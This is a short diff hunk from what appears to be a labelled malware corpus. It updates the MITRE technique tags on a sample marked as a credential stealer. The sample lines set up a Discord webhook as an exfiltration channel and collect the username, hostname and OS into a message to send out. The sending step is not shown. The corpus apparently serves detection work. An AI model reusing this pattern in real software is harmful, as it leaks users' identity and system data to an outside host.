@@ -1,4 +1,4 @@
-# label: malicious family=creds techniques=T1552.001,T1567.004,T1082 lines=3,5-7
+# label: malicious family=creds techniques=T1033,T1082,T1552.001,T1567.004 lines=3,5-7
 import os, platform, getpass, requests
 WH = "https://discord.com/api/webhooks/000000000000000000/FAKE-pytriage-corpus-token"
 msg = "user=%s host=%s os=%s\n" % (getpass.getuser(), platform.node(), platform.platform())
